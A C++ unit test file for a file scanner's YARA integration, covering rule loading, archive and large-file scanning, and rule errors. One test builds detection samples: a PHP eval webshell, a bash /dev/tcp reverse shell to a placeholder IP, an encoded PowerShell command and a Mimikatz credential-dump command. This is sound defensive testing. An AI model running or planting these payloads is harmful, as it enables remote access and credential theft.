// YARA: a rule from a user folder matches a marker, in a file, in an archive member and across the
// blocks a large file is scanned in; a condition reads bytes deep in a file without the file being
// read again; the bundled rules fire on what they describe and not on clean files; a broken rule
// is a configuration error naming its file and line.
#include <catch2/catch.hpp>

#include <algorithm>
#include <fstream>
#include <splitfs/errors.hpp>

#include "scan/scan.hpp"
#include "tests/support/files.hpp"
#include "tests/support/temp_dir.hpp"
#include "tests/unit/scan_counting_source.hpp"
#include "tests/unit/scan_samples.hpp"

using namespace splitfs;
using namespace splitfs::scan;
namespace samples = splitfs::testing::samples;
using splitfs::testing::CountingSource;
using splitfs::testing::TempDir;
using splitfs::testing::write_file;

namespace {

Settings yara_only(const std::filesystem::path& rules) {
  Settings s;
  s.heuristics = false;
  s.bundled_yara_rules = false;
  s.yara_rule_dirs = {rules};
  return s;
}

Verdict scan_bytes(Scanner& scanner, const Bytes& data, std::string_view name) {
  MemorySource source(data);
  return scanner.scan(source, name);
}

}  // namespace

TEST_CASE("a YARA rule from a user folder matches a marker") {
  TempDir rules("splitfs-yara");
  samples::write_marker_rule(rules.path());
  Scanner scanner(yara_only(rules.path()));
  const Bytes sample = samples::bytes_of("header\n" + samples::yara_marker() + "\nfooter\n");
  const Verdict v = scan_bytes(scanner, sample, "notes.txt");
  REQUIRE(v.worst());
  CHECK(v.severity == Severity::malicious);
  CHECK(v.worst()->detector == "yara");
  CHECK(v.worst()->rule == "marker:test_marker");
  CHECK(v.worst()->detail == "the test marker");
  CHECK(scan_bytes(scanner, samples::text(10000), "clean.txt").findings.empty());
}

TEST_CASE("YARA severities come from the rule's meta") {
  TempDir rules("splitfs-yara");
  samples::write_marker_rule(rules.path(), "suspicious", "soft.yara");
  Scanner scanner(yara_only(rules.path()));
  const Verdict v = scan_bytes(scanner, samples::bytes_of(samples::yara_marker()), "x");
  CHECK(v.severity == Severity::suspicious);
  CHECK(v.worst()->rule == "soft:test_marker");
}

TEST_CASE("YARA sees archive members and strings across block boundaries") {
  TempDir rules("splitfs-yara");
  samples::write_marker_rule(rules.path());
  Settings settings = yara_only(rules.path());
  settings.heuristics = true;  // the archive walk hands members to YARA
  Scanner scanner(settings);
  const Bytes inner = samples::bytes_of("nothing here, then " + samples::yara_marker());
  const Verdict zipped = scan_bytes(
      scanner, samples::zip({{"a.txt", samples::text(1000)}, {"b/m.txt", inner}}), "bundle.zip");
  REQUIRE(zipped.worst());
  CHECK(zipped.worst()->rule == "marker:test_marker");
  CHECK(zipped.worst()->where == "bundle.zip/b/m.txt");
  // YARA reads a large file in 1 MiB blocks: a marker across the first boundary is still found.
  Bytes big = samples::random_bytes(3u << 20);
  const std::string m = samples::yara_marker();
  std::copy(m.begin(), m.end(), big.begin() + (1 << 20) - 5);
  std::filesystem::path file = rules / "big.bin";
  write_file(file, big);
  FileSource source(file);
  CHECK(scanner.scan(source, "big.bin").severity == Severity::malicious);
}

TEST_CASE("the bundled rules fire on what they describe and not on clean files") {
  Settings settings;
  settings.heuristics = false;
  Scanner scanner(settings);
  const std::string php = std::string("<?") + "php " + "eval(" + "base64_decode($_POST['x'])); ?>";
  const std::string shell = std::string("bash -i >") + "& /dev/tcp/10.0.0.1/4444 0>&1";
  const std::string ps = std::string("powershell.exe -nop -") + "enc " + std::string(60, 'A');
  const std::string mimi = std::string("sekurlsa") + "::" + "logonpasswords";
  CHECK(scan_bytes(scanner, samples::bytes_of(php), "x.php").worst()->rule ==
        "splitfs:php_webshell_eval");
  CHECK(scan_bytes(scanner, samples::bytes_of(shell), "x.sh").worst()->rule ==
        "splitfs:reverse_shell_dev_tcp");
  CHECK(scan_bytes(scanner, samples::bytes_of(ps), "x.bat").worst()->rule ==
        "splitfs:powershell_encoded_command");
  const Verdict m = scan_bytes(scanner, samples::bytes_of(mimi), "x.txt");
  CHECK(m.worst()->rule == "splitfs:credential_dumper_mimikatz");
  CHECK(m.severity == Severity::malicious);
  Settings full;
  Scanner everything(full);
  for (const auto& sample : samples::heuristic_samples()) {
    if (sample.verdict != "clean")
      continue;
    INFO(sample.name);
    CHECK(scan_bytes(everything, sample.data, sample.name).findings.empty());
  }
}

TEST_CASE("a broken or missing rule folder is a configuration error") {
  TempDir rules("splitfs-yara");
  {
    std::ofstream out(rules / "broken.yar");
    out << "rule ok { condition: true }\n\nrule broken {\n  condition: $undefined\n}\n";
  }
  try {
    Scanner scanner(yara_only(rules.path()));
    FAIL("a broken rule compiled");
  } catch (const ConfigError& e) {
    CHECK_THAT(e.what(), Catch::Contains("broken.yar:") && Catch::Contains("undefined string"));
  }
  CHECK_THROWS_AS(Scanner(yara_only(rules / "absent")), ConfigError);
}

TEST_CASE("a rule reading bytes deep in a file gets them without the blocks being read again") {
  TempDir rules("splitfs-yara");
  {
    std::ofstream out(rules / "deep.yar");
    // Each uint8() walks YARA's blocks from the first to the one holding its offset.
    out << "rule deep_bytes { condition: for all i in (0..199) : (uint8(0x280000 + i) == 0x41) }\n";
  }
  Scanner scanner(yara_only(rules.path()));
  Bytes data = samples::random_bytes(3u << 20);
  std::fill_n(data.begin() + 0x280000, 200, std::uint8_t{0x41});
  CountingSource source(data);
  const Verdict v = scanner.scan(source, "deep.bin");
  REQUIRE(v.worst());
  CHECK(v.worst()->rule == "deep:deep_bytes");
  // One pass over the file, and the block asked for again at most once more.
  CHECK(source.read() <= data.size() + (2u << 20));
  data[0x280000 + 150] = 0x42;
  CountingSource changed(data);
  CHECK(scanner.scan(changed, "deep.bin").findings.empty());
}
